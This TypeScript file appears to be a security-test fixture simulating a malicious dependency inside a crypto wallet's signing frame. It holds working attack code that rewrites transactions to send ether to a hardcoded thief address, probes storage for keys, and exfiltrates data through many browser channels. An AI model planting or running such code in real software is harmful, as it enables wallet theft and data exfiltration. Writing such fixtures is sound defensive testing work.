// A module that a hostile dependency has planted in the document that completes operations. It acts as that document: it changes what the user is to
// sign, and tries to get at keys and to send out what it sees.

/** What tests call. */
export interface Planted {
  /** Data of all messages that the document got. */
  readonly seen: readonly unknown[];
  /** Tries to get at keys. Returns what each try gave. */
  steal(): Promise<Readonly<Record<string, string>>>;
  /** Tries to send something to an attacker's server without leaving the page. Returns what each try gave. */
  send(origin: string, data: string): Promise<Readonly<Record<string, string>>>;
  /** Leaves for the attacker's server with the data. */
  leave(origin: string, data: string): void;
}

declare global {
  interface Window {
    planted?: Planted;
  }
}

/** Who gets the user's ether in the place of what the app asks for. */
const THIEF = '0x90F79bf6EB2c4f870365E785982E1f101E93b906';

interface Call {
  readonly kind: string;
  readonly name: string;
  readonly values: readonly unknown[];
}

const seen: unknown[] = [];

/** Completes another operation than the page asks for. */
const tamper = (data: unknown): unknown => {
  // The calls of the page.
  const { kind, name, values } = data as Call;
  if (kind !== 'call' || name !== 'prepareSmartOperation') return data;
  const [account, access, requested] = values as readonly [unknown, unknown, object];
  return { ...(data as Call), values: [account, access, { ...requested, calls: [{ to: THIEF, value: 1n, data: '0x' }] }] };
};

const { addEventListener } = MessagePort.prototype;
MessagePort.prototype.addEventListener = function (this: MessagePort, type: string, listener: unknown): void {
  addEventListener.call(this, type, (event) => {
    // Ports have no other events.
    const { data } = event as MessageEvent<unknown>;
    seen.push(data);
    // The document's own listener.
    (listener as (event: { readonly data: unknown }) => void)({ data: tamper(data) });
  });
};

const TRY_MS = 2_000;

/** Runs each try. What it resolves to, and any error, is the outcome. */
const tryAll = async (tries: Readonly<Record<string, () => unknown>>): Promise<Readonly<Record<string, string>>> => {
  const outcomes = await Promise.all(
    Object.entries(tries).map(async ([name, run]) => {
      const late = new Promise<string>((resolve) => setTimeout(() => resolve('nothing'), TRY_MS));
      try {
        return [name, String(await Promise.race([run(), late]))] as const;
      } catch (error) {
        return [name, error instanceof Error || error instanceof DOMException ? error.name : 'error'] as const;
      }
    }),
  );
  return Object.fromEntries(outcomes);
};

/** Resolves with the name of the first event. */
const eventOf = (target: EventTarget, ...types: readonly string[]): Promise<string> =>
  new Promise((resolve) => {
    for (const type of types) target.addEventListener(type, () => resolve(type), { once: true });
  });

const add = (tag: string, attributes: Readonly<Record<string, string>>): Promise<string> => {
  const created = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) created.setAttribute(name, value);
  const event = eventOf(created, 'load', 'error');
  document.body.append(created);
  return event;
};

const steal: Planted['steal'] = () =>
  tryAll({
    origin: () => self.origin,
    indexedDB: () => eventOf(indexedDB.open('latchkey-wallet'), 'success', 'error'),
    localStorage: () => localStorage.length,
    cookie: () => document.cookie,
    caches: () => caches.keys(),
    'file system': () => navigator.storage.getDirectory(),
    'document of the parent': () => window.parent.document.title,
    'storage of the parent': () => Reflect.get(window.parent, 'indexedDB'),
    'worker of the keys': () => eventOf(new Worker(new URL('worker.js', document.baseURI)), 'message', 'error'),
    'worker of its own': () => eventOf(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message', 'error'),
    'another page of the site': () =>
      add('iframe', { src: 'dashboard' }).then(() => document.querySelector('iframe')?.contentDocument?.title ?? 'no document'),
  });

const send: Planted['send'] = (origin, data) => {
  const url = `${origin}/?${data}`;
  return tryAll({
    fetch: () => fetch(url, { mode: 'no-cors' }),
    beacon: () => navigator.sendBeacon(url),
    'keep-alive': () => fetch(url, { mode: 'no-cors', keepalive: true }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      const event = eventOf(request, 'load', 'error');
      request.send();
      return event;
    },
    socket: () => eventOf(new WebSocket(url.replace('http', 'ws')), 'open', 'error'),
    events: () => eventOf(new EventSource(url), 'open', 'error'),
    image: () => add('img', { src: url }),
    media: () => add('video', { src: url, poster: url }),
    style: () => add('link', { rel: 'stylesheet', href: url }),
    prefetch: () => add('link', { rel: 'prefetch', href: url }),
    preload: () => add('link', { rel: 'preload', as: 'script', href: url }),
    preconnect: () => add('link', { rel: 'preconnect', href: url }),
    font: () => new FontFace('stolen', `url(${url})`).load(),
    frame: () => add('iframe', { src: url }),
    import: () => import(/* @vite-ignore */ url),
    popup: () => window.open(url),
    form: () => {
      const form = document.createElement('form');
      form.action = url;
      document.body.append(form);
      form.submit();
      return 'nothing';
    },
    'top page': () => {
      if (window.top !== null) window.top.location.href = url;
      return 'nothing';
    },
    'parent page': () => {
      window.parent.location.href = url;
      return 'nothing';
    },
  });
};

window.planted = {
  seen,
  steal,
  send,
  leave: (origin, data) => {
    for (const other of [window.parent, window.top]) other?.postMessage({ type: '@w3m-frame/STOLEN', id: data }, '*');
    location.href = `${origin}/?${data}`;
  },
};
